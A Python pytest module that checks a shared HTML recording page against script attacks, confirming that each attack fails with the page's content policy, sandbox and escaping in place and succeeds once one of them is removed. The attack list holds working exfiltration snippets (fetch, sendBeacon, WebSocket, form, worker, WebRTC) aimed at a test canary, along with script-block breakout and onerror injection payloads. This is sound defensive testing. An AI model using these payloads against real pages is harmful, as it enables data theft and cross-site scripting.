"""Attacks on whoever opens a shared recording: each succeeds against a file without the protection, and fails in ours.

A shared file has no host, no server and no headers around it, so these have a stage of their own beside the catalogue.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

import pytest

from cloche.testing.cassettes import shared_page as shared_module
from tests.attacks.canary import Canary
from tests.attacks.shared_file import DEADLINE, SECRET, Lure, attempt, html_of, started

Weaken = Callable[[pytest.MonkeyPatch], None]


@dataclass(frozen=True, kw_only=True)
class FileAttack(Lure):
    """One attack, and the protection without which it succeeds."""

    weaken: Weaken

    def __str__(self) -> str:
        return self.name


def without_policies(patch: pytest.MonkeyPatch) -> None:
    """The page and its views without a policy."""
    patch.setattr(shared_module, "WIDEST", "base-uri 'none'")
    patch.setattr(shared_module, "content_policy", lambda *_: "base-uri 'none'")
    _edited(patch, "share/room.html", "frame-src 'none'", "base-uri 'none'")


def without_sandbox(patch: pytest.MonkeyPatch) -> None:
    """Views of the page's own origin."""
    _edited(patch, "share/index.html", ' sandbox="allow-scripts allow-forms"', "")
    _edited(patch, "dist/shared-stage.js", "allow-scripts allow-forms", "allow-scripts allow-same-origin allow-forms")


def without_escapes(patch: pytest.MonkeyPatch) -> None:
    """The recording in its block as it is, and no second policy."""
    patch.setattr(shared_module, "_inert", lambda text: text)
    patch.setattr(shared_module, "escape", lambda text: text)
    patch.setattr(shared_module, "_strict", lambda *_: "base-uri 'none'")


def without_second_policy(patch: pytest.MonkeyPatch) -> None:
    """The page bound by nothing but the policy that views need."""
    patch.setattr(shared_module, "_strict", lambda *_: "base-uri 'none'")


def with_rtc(patch: pytest.MonkeyPatch) -> None:
    """Views that keep WebRTC."""
    _edited(patch, "dist/shared-view.js", '"RTCPeerConnection",', "")


def _edited(patch: pytest.MonkeyPatch, file: str, old: str, new: str) -> None:
    """A file of `cloche.web` with something else in it."""
    before_read, before_bundled = shared_module.read_web, shared_module.bundled

    def changed(name: str, text: str) -> str:
        if name != file:
            return text
        assert text.count(old) == 1, f"{file} has not exactly one {old!r}: change the control with the file"
        return text.replace(old, new)

    patch.setattr(shared_module, "read_web", lambda name: changed(name, before_read(name)))
    patch.setattr(shared_module, "bundled", lambda name, **values: changed(f"dist/{name}", before_bundled(name)))


FETCH = "fetch(http).catch(() => 0)"
ATTACKS = [
    FileAttack(name="fetch", weaken=without_policies, script=FETCH),
    FileAttack(name="image", weaken=without_policies, script="new Image().src = http"),
    FileAttack(name="beacon", weaken=without_policies, script="navigator.sendBeacon(http, 'x')"),
    FileAttack(name="websocket", weaken=without_policies, script="new WebSocket(http.replace('http', 'ws'))"),
    FileAttack(
        name="stylesheet",
        weaken=without_policies,
        script="document.head.innerHTML += `<style>@import '${http}'</style>`",
    ),
    FileAttack(name="navigation", weaken=without_policies, script="location = http", leaves=True),
    FileAttack(
        name="form",
        weaken=without_policies,
        script="document.body.innerHTML = `<form action='${http}'>`; document.forms[0].submit()",
        leaves=True,
    ),
    FileAttack(
        name="child frame", weaken=without_policies, script="document.body.innerHTML = `<iframe src='${http}'>`"
    ),
    FileAttack(
        name="worker",
        weaken=without_policies,
        script="new Worker(URL.createObjectURL(new Blob([`fetch('${http}')`])))",
    ),
    FileAttack(
        name="webrtc",
        weaken=with_rtc,
        script="const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${udp}`}]}); "
        "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))",
    ),
    FileAttack(
        name="read the page around it",
        weaken=without_sandbox,
        script=f"const all = top.document.documentElement.outerHTML; if (all.includes({SECRET!r})) win('it was read')",
    ),
    FileAttack(
        name="write into the page around it",
        weaken=without_sandbox,
        script="top.document.title = 'written'; if (top.document.title === 'written') win('it was written')",
    ),
    FileAttack(
        name="end the data block",
        weaken=without_escapes,
        text="</script><script>fetch('{http}', {{mode: 'no-cors'}}).catch(() => 0); new Image().src = '{http}'; "
        "document.title = 'broken out'</script>",
    ),
    FileAttack(
        name="comment out the rest",
        weaken=without_escapes,
        text="<!-- <script>",
    ),
    FileAttack(
        name="a name that is markup",
        weaken=without_escapes,
        title="<img src=x onerror=\"document.title='broken out'\">",
    ),
]


async def all_attempts(attacks: Iterable[FileAttack], folder: Path) -> dict[str, str]:
    """What came of each, at the same time."""
    async with started() as browser:
        told = [(one.name, attempt(browser, one, folder / str(number))) for number, one in enumerate(attacks)]
        proofs = await asyncio.gather(*(ending for _, ending in told))
    return dict(zip((name for name, _ in told), proofs, strict=True))


async def test_no_attack_succeeds_in_a_shared_file(tmp_path: Path) -> None:
    assert {name: proof for name, proof in (await all_attempts(ATTACKS, tmp_path)).items() if proof} == {}


@pytest.mark.parametrize("weaken", list(dict.fromkeys(one.weaken for one in ATTACKS)), ids=lambda one: one.__name__)
async def test_without_the_protection_each_of_them_does(
    weaken: Weaken, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    weaken(monkeypatch)
    proofs = await all_attempts([one for one in ATTACKS if one.weaken is weaken], tmp_path)
    assert [name for name, proof in proofs.items() if not proof] == []


async def test_a_script_in_the_page_itself_is_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Were there a hole in how the page shows a recording, the second policy is behind it."""
    attack = FileAttack(name="none", weaken=without_second_policy)
    run = "document.body.insertAdjacentHTML('beforeend', '<img src=\"x:\" onerror=\"document.title = 1\">')"
    async with started() as browser, Canary() as canary:
        titles = []
        for folder in ("ours", "weak"):
            if folder == "weak":
                attack.weaken(monkeypatch)
            page = await (await browser.new_context()).new_page()
            await page.goto(html_of(attack, canary, tmp_path / folder).as_uri())
            await page.locator("#stage:not([hidden])").wait_for()
            failed = page.evaluate(
                "() => new Promise((done) => { addEventListener('error', () => setTimeout(done, 200), true); "
                f"{run} }})"
            )
            await asyncio.wait_for(failed, DEADLINE)
            titles.append(await page.title())
        assert titles == ["look of evil", "1"]
